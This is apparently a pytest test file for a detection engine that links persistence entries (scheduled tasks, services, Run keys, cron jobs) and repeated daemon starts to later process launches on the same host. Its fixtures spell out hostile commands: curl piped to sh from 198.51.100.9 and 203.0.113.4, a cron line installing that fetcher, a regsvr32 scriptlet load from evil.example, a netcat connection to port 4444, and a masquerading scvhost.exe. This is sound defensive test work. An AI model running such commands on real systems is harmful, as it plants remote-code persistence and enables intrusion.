"""What was started later on the same host: by an entry that was written down, or by the same daemon once more."""

from __future__ import annotations

import random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.domain.related import RelatedStart, RemoteStart
from engine.findings.started_again import kept, marks, started_again
from tests.engine.findings.ends import FS, WS, end

SYS = "C:\\Windows\\System32\\"
TASK = SYS + "svchost.exe"
SHELL = "/usr/bin/dash"
FETCH = "/bin/sh -c '(curl -fsSL http://198.51.100.9/kw.sh) | sh'"
HOUR = 3600


def no_texts(_incident: int) -> list[str]:
    return []


def only(links: tuple[RelatedStart, ...]) -> RelatedStart:
    assert len(links) == 1
    return links[0]


@pytest.mark.parametrize(
    ("image", "command", "started", "ran", "below"),
    [
        (SYS + "schtasks.exe", 'schtasks /create /tn u /tr "C:\\t\\u.exe -k" /f', "C:\\t\\u.exe", "C:\\t\\u.exe -k", TASK),
        (SYS + "sc.exe", "sc create upd binPath= C:\\t\\upd.exe", "C:\\t\\upd.exe", "C:\\t\\upd.exe", SYS + "services.exe"),
        (
            SYS + "reg.exe",
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d C:\\t\\logon.exe",
            "C:\\t\\logon.exe", "C:\\t\\logon.exe", "C:\\Windows\\explorer.exe",
        ),
        (SHELL, "sh -c 'echo \"* * * * * /opt/.x/run -q\" > /etc/cron.d/x'", "/opt/.x/run", "/opt/.x/run -q", "/usr/sbin/cron"),
        (SHELL, f'sh -c \'(crontab -l; echo "* * * * * {FETCH[11:-1]}") | crontab -\'', SHELL, FETCH, ""),
    ],
)  # fmt: skip
def test_a_command_that_was_written_down_is_tied_to_its_first_start(image: str, command: str, started: str, ran: str, below: str):
    writer = end(WS, 0, image, command)
    first = end(WS, HOUR, started, ran, below, incident=8, finding=8)
    again = end(WS, 2 * HOUR, started, ran, below, incident=9, finding=8)
    link = only(started_again([writer], [again, first], no_texts))
    assert (link.from_process, link.to_process, link.how) == (writer.process, first.process, RemoteStart.PERSISTENCE)
    assert "writes down the command that is started then" in link.evidence[0]
    assert "60 min 0 s later, below" in link.evidence[-1]


def test_a_shell_without_a_command_is_anybodys():
    writer = end(WS, 0, SYS + "schtasks.exe", "schtasks /create /tn u /tr C:\\Windows\\System32\\cmd.exe /sc daily")
    shell = end(WS, HOUR, SYS + "cmd.exe", "C:\\Windows\\System32\\cmd.exe", TASK, incident=8)
    assert started_again([writer], [shell], no_texts) == ()


def test_what_the_host_started_before_is_no_new_entry():
    writer = end(WS, 0, SYS + "schtasks.exe", 'schtasks /create /tn u /tr "C:\\Scripts\\nightly.exe -k x" /sc hourly')
    runs = [end(WS, at * HOUR, "C:\\Scripts\\nightly.exe", "C:\\Scripts\\nightly.exe -k x", TASK, incident=8) for at in (-1, 1)]
    assert started_again([writer], runs, no_texts) == ()


def test_an_entry_starts_nothing_on_another_host_and_nothing_below_a_shell():
    writer = end(WS, 0, SYS + "schtasks.exe", 'schtasks /create /tn u /tr "C:\\t\\update.exe -k x" /sc hourly')
    elsewhere = end(FS, HOUR, "C:\\t\\update.exe", "C:\\t\\update.exe -k x", TASK)
    by_hand = end(WS, HOUR, "C:\\t\\update.exe", "C:\\t\\update.exe -k x", SYS + "cmd.exe", incident=8)
    assert started_again([writer], [elsewhere, by_hand], no_texts) == ()


@pytest.mark.parametrize(
    ("changed", "tied"),
    [
        ({}, True),
        ({"user": "www-data"}, False),
        ({"command": "/bin/sh -c 'curl http://203.0.113.4/a | sh'"}, False),
        ({"below": "/usr/sbin/sshd"}, False),
        ({"time_us": 0}, False),
    ],
)
def test_an_entry_that_no_log_shows_needs_a_user_a_parent_and_something_that_both_name(changed: dict[str, object], tied: bool):
    writer = end(WS, 0, "/usr/bin/crontab", "crontab -", user="root")
    values = {"user": "root", "incident": 8, "finding": 8, "command": FETCH, "below": ""} | changed
    at = values.pop("time_us", None)
    job = end(WS, HOUR if at is None else -HOUR, SHELL, **values)
    links = started_again([writer], [job], lambda _: ["curl -fsSL http://198.51.100.9/kw -o /dev/shm/kworker"])
    assert len(links) == tied
    assert all("both incidents name 198.51.100.9" in link.evidence for link in links)


def test_a_table_that_is_only_listed_is_no_entry():
    assert kept(end(WS, 0, "/usr/bin/crontab", "crontab -l")) is None
    assert kept(end(WS, 0, SHELL, "/bin/sh -c 'cd / && run-parts --report /etc/cron.hourly'")) is None


@pytest.mark.parametrize(
    ("image", "command", "tied"),
    [
        ("C:\\ProgramData\\Intel\\scvhost.exe", "C:\\ProgramData\\Intel\\scvhost.exe -k netsvcs", True),
        ("C:\\Users\\Public\\u.exe", "C:\\Users\\Public\\u.exe", True),
        (SYS + "regsvr32.exe", "regsvr32 /s /i:http://evil.example/x.sct scrobj.dll", True),
        (SYS + "gpscript.exe", "gpscript.exe /Startup", False),
    ],
)
def test_only_what_is_strange_is_tied_to_its_next_start(image: str, command: str, tied: bool):
    first = end(WS, 0, image, command, TASK, incident=7, finding=7, parent=70)
    second = end(WS, HOUR, image, command, TASK, incident=8, finding=8, parent=70)
    links = started_again([], [second, first], no_texts)
    assert [(link.from_process, link.to_process, link.how) for link in links] == [
        (first.process, second.process, RemoteStart.AGAIN)
    ] * tied
    assert all("both were started by the same process, svchost.exe" in link.evidence for link in links)


def test_alike_incidents_and_starts_by_hand_are_not_tied():
    image = "C:\\Users\\Public\\u.exe"
    alike = [end(WS, at, image, image, TASK, incident=10 + at, finding=7) for at in (0, 1)]
    by_hand = [end(WS, at, image, image, "C:\\Windows\\explorer.exe", incident=20 + at, finding=20 + at) for at in (0, 1)]
    users = [end(WS, at, image, f"{image} x", TASK, incident=30 + at, finding=30 + at, user=str(at)) for at in (0, 1)]
    assert started_again([], [*alike, *by_hand, *users], no_texts) == ()


def test_addresses_and_temporary_files_are_marks_and_the_own_host_is_none():
    assert marks(["curl http://EVIL.example:8/x -o /dev/shm/kw", "nc 203.0.113.5 4444 127.0.0.1 0.0.0.0 1.2.3.4.5"]) == {
        "evil.example", "/dev/shm/kw", "203.0.113.5",
    }  # fmt: skip
    assert len(marks([f"ping 10.0.{n // 250}.{n % 250}" for n in range(1, 900)])) == 64


@given(
    st.lists(
        st.tuples(st.sampled_from(("crontab -", "schtasks /create /tr ", "sh -c crontab ", "")), st.text(max_size=60)),
        max_size=10,
    ),
    st.integers(0, 9),
)
def test_hostile_texts_and_any_order_change_nothing(rows: list[tuple[str, str]], seed: int):
    writers = [end(WS, place, text, tool + text, user=text) for place, (tool, text) in enumerate(rows)]
    started = [end(WS, place, text, tool + text, "cron", incident=9, finding=place) for place, (tool, text) in enumerate(rows)]
    found = started_again(writers, started, lambda _: [text for _, text in rows])
    shuffled = random.Random(seed)
    shuffled.shuffle(writers)
    shuffled.shuffle(started)
    assert started_again(writers, started, lambda _: [text for _, text in rows]) == found
